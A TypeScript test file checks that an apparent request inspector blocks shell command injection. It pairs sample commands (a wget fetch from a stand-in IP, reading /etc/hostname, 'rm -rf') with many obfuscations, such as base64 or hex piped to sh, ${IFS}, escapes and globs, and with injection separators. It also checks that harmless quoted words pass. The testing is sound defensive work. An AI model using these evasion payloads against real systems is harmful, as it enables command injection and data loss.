import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'
import { inEachPlace } from './in-each-place.ts'

/** A program and what it is given. */
type Command = readonly [program: string, ...operands: string[]]

const COMMANDS: readonly Command[] = [
  ['cat', '/etc/hostname'],
  ['wget', 'http://198.51.100.7/x'],
  ['ping', '-c', '1', '198.51.100.7'],
  ['nslookup', 'x.example'],
  ['rm', '-rf', '/tmp/x'],
]

/** What a shell makes the command of. */
const DISGUISES: Readonly<Record<string, (command: Command) => string>> = {
  'as it is': command => command.join(' '),
  'with quotes inside': ([name, ...rest]) => [`${name[0]}''${name.slice(1)}`, ...rest].join(' '),
  'with backslashes': ([name, ...rest]) => [[...name].join('\\'), ...rest].join(' '),
  'with a parameter that is empty inside': ([name, ...rest]) =>
    [`${name[0]}$@${name.slice(1)}`, ...rest].join(' '),
  'with a substitution that is empty inside': ([name, ...rest]) =>
    [`${name[0]}$()${name.slice(1)}`, ...rest].join(' '),
  'with another separator of words': command => command.join('${IFS}'),
  'in braces': command => `{${command.join(',')}}`,
  'as hexadecimal numbers': ([name, ...rest]) => `$'${escaped(name, 'x', 16)}' ${rest.join(' ')}`,
  'as octal numbers': ([name, ...rest]) => `$'${escaped(name, '', 8)}' ${rest.join(' ')}`,
  'printed from numbers': ([name, ...rest]) => `$(printf '${escaped(name, 'x', 16)}') ${rest.join(' ')}`,
  'in two variables': ([name, ...rest]) => `a=${name[0]};b=${name.slice(1)};$a$b ${rest.join(' ')}`,
  'in one variable': ([name, ...rest]) => `x=${name}&&$x ${rest.join(' ')}`,
  'in capitals that are made small': command => `a="${command.join(' ').toUpperCase()}";\${a,,}`,
  'in capitals that a filter makes small': command => `$(tr A-Z a-z<<<'${command.join(' ').toUpperCase()}')`,
  'written backwards': command => `$(rev<<<'${[...command.join(' ')].reverse().join('')}')`,
  'in base64': command => `echo ${Buffer.from(command.join(' ')).toString('base64')}|base64 -d|sh`,
  'in hexadecimal': command => `echo ${Buffer.from(command.join(' ')).toString('hex')}|xxd -r -p|sh`,
  'by a pattern of its file': ([name, ...rest]) => `/???/${name.slice(0, -1)}? ${rest.join(' ')}`,
  // A shell goes on behind a backslash at the end of a line.
  'over lines': ([name, ...rest]) => `${name?.[0]}\\\n${name?.slice(1)} ${rest.join('\\\n ')}`,
  'by another shell': command => `sh -c "${command.join(' ')}"`,
  'by a language': command => `python3 -c 'import os;os.system("${command.join(' ')}")'`,
}

const SEPARATORS: Readonly<Record<string, (command: string) => string>> = {
  ';': command => `x;${command}`,
  '&': command => `x&${command}`,
  '&&': command => `x && ${command}`,
  '|': command => `x|${command}`,
  '||': command => `x || ${command}`,
  'a line end': command => `127.0.0.1\n${command}`,
  'a substitution': command => `x$(${command})`,
  'a quote': command => `x';${command};'`,
}

describe('a command behind a separator stays one', () => {
  for (const [disguise, make] of Object.entries(DISGUISES))
    test(disguise, () => {
      for (const command of COMMANDS)
        for (const [separator, put] of Object.entries(SEPARATORS)) {
          const value = put(make(command))
          for (const [place, request] of Object.entries(inEachPlace(value)))
            assert.equal(inspect(request).verdict, 'block', `${place}, behind ${separator}: ${value}`)
        }
    })
})

describe('a whole value that is a command', () => {
  test('whose name has quotes in it', () => {
    for (const value of ["w'h'o'am'i", 'wh""oami', 'i"f"config -a', "un'am'e -a"])
      for (const [place, request] of Object.entries(inEachPlace(value)))
        if (place !== 'json') assert.equal(inspect(request).verdict, 'block', `${place}: ${value}`)
  })

  test('but words with quotes in them pass', () => {
    for (const value of [
      "rock'n'roll",
      "d'n'd night",
      "O'Brien's",
      'the 6\' x 8" rug',
      "w''",
      'id: "x"',
      `'tis "id"`,
    ])
      for (const [place, request] of Object.entries(inEachPlace(value)))
        assert.equal(inspect(request).verdict, 'pass', `${place}: ${value}`)
  })
})

function escaped(text: string, letter: string, base: 8 | 16): string {
  return [...text].map(sign => `\\${letter}${sign.charCodeAt(0).toString(base)}`).join('')
}
